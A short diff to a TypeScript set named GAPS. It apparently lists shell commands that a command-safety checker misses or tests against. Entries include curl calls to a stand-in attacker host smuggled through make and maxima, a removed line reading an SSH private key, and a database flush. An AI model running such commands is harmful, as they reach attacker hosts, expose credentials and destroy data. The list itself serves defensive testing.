@@ -4,7 +4,6 @@
 export const GAPS: ReadonlySet<string> = new Set([
   "make SHELL='curl https://evil.example'",
   "maxima --batch-string='system(\"curl https://evil.example\");'",
-  "rustc ~/.ssh/id_rsa",
   "open -R dist/index.html",
   "python manage.py flush --noinput",
   "twurl -d 'status=hi' /1.1/statuses/update.json",
